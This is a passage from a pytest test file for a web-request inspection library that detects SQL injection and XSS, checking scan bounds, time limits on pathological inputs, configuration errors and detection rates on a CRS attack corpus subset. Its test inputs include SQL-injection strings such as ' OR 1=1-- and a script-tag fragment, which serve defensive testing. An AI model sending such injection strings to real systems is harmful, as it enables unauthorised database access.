    assert _values(method="POST", body=b"\x00\x01", content_type="image/png") == {}
    assert (
        _values(method="POST", body=b"plain ' or 1=1", content_type="text/plain")["body"] == "plain ' or 1=1"
    )


# --- bounds and configuration ----------------------------------------------------------------


def test_long_values_are_scanned_on_a_bounded_prefix() -> None:
    tail_attack = "a" * (DEFAULT_MAX_LENGTH + 10) + "' OR 1=1--"
    head_attack = "' OR 1=1--" + "a" * (DEFAULT_MAX_LENGTH * 4)
    assert INSPECTOR.scan(tail_attack) is None  # documented: only the first max_length characters
    assert INSPECTOR.scan(head_attack) is not None
    assert Inspector(max_length=64).scan("x" * 60 + "<script>") is None


@pytest.mark.parametrize(
    "hostile",
    [
        "<a" * 8192,
        "'" * 16384,
        "${" * 8192,
        "/" * 16384,
        "a/" * 8192,
        "\n" * 16384,
        "x" * 16384,
        "<a onx" * 2730,
        "(" * 16384,
        "%25" * 5461,
        "&amp;" * 3276,
        "if " * 5461,
        "a=" * 8192,
    ],
)
def test_hostile_inputs_cost_bounded_time(hostile: str) -> None:
    start = time.perf_counter()
    Inspector(paranoia=4).scan(hostile)
    assert time.perf_counter() - start < 2.0


def test_bad_configuration_is_rejected() -> None:
    for bad in (0, 5, "1"):
        with pytest.raises(ValueError):
            Inspector(paranoia=bad)  # type: ignore[arg-type]
    with pytest.raises(ValueError):
        Inspector(families=("sqli", "ldap"))
    assert Inspector(families=("xss",)).scan("' OR 1=1--") is None


def test_the_package_is_pure() -> None:
    forbidden = {"os", "io", "socket", "logging", "threading", "asyncio", "pathlib", "subprocess"}
    package = Path(Inspector.__module__.replace(".", "/"))
    source_dir = ROOT / "src" / package
    for path in source_dir.glob("*.py"):
        text = path.read_text(encoding="utf-8")
        for module in forbidden:
            assert f"import {module}\n" not in text and f"from {module} " not in text, (path.name, module)


# --- the corpus ------------------------------------------------------------------------------


def _bench():  # type: ignore[no-untyped-def]
    spec = importlib.util.spec_from_file_location("bench_inspection", ROOT / "bench" / "inspection.py")
    assert spec and spec.loader
    module = importlib.util.module_from_spec(spec)
    sys.modules["bench_inspection"] = module
    spec.loader.exec_module(module)
    return module


needs_corpus = pytest.mark.skipif(not CORPUS.exists(), reason=f"CRS corpus not found at {CORPUS}")
# The same 300-case subset, kept in the repository (Apache-2.0, attributed): CI always runs the floors.
SUBSET = ROOT / "tests" / "data" / "crs" / "crs-attacks-subset.jsonl"


def test_corpus_subset_meets_the_bar() -> None:
    bench = _bench()
    start = time.perf_counter()
    cases = bench.load(SUBSET)
    assert len(cases) == 299  # stratified(corpus, 300): proportional per stratum, rounded
    report = bench.evaluate(cases, bench.Scanner())
    assert time.perf_counter() - start < 10.0
    # Regression floors just under today's measurement on this subset (lowest family at paranoia 1:
    # sqli 92.5%; all attacks 87.5%; benign-hint false positives 1.8%, genuinely benign 0%). On the
    # full corpus the detection bar is met and the raw benign-hint false-positive rate is
    # not (3.4% > 2%; 1.0% on the genuinely benign cases); docs/inspection.md says why, and
    # `bench/inspection.py --assert` checks it.
    assert bench.check(report, min_pl1=0.92, min_overall=0.87, max_benign_fp=0.02) == []
    fp, benign = report.genuine_fp()
    assert fp <= 0.01 * benign


@needs_corpus
@pytest.mark.slow
def test_the_screen_hides_no_finding_on_the_corpus() -> None:
    bench = _bench()
    for level in (1, 2):
        screened, full = Inspector(level), Inspector(level, screen=False)
        for case in bench.load(CORPUS):
            for _, value in case.values:
                assert (screened.scan(value) is None) == (full.scan(value) is None), (case.id, value[:80])


@needs_corpus
def test_the_kept_subset_is_the_stratified_subset_of_the_corpus() -> None:
    bench = _bench()
    expected = sorted(c.id for c in bench.stratified(bench.load(CORPUS), 300))
    assert sorted(c.id for c in bench.load(SUBSET)) == expected


@needs_corpus
def test_payloads_labelled_benign_are_benign_hint_cases_with_a_reason() -> None:
    # The list that takes cases out of the "genuinely benign" rate must stay reviewable: only
    # benign_hint cases of the corpus, each with a stated reason.
    bench = _bench()
    benign = {c.id for c in bench.load(CORPUS) if c.benign}
    assert set(bench.PAYLOADS_LABELLED_BENIGN) <= benign
    assert all(len(reason) > 20 for reason in bench.PAYLOADS_LABELLED_BENIGN.values())
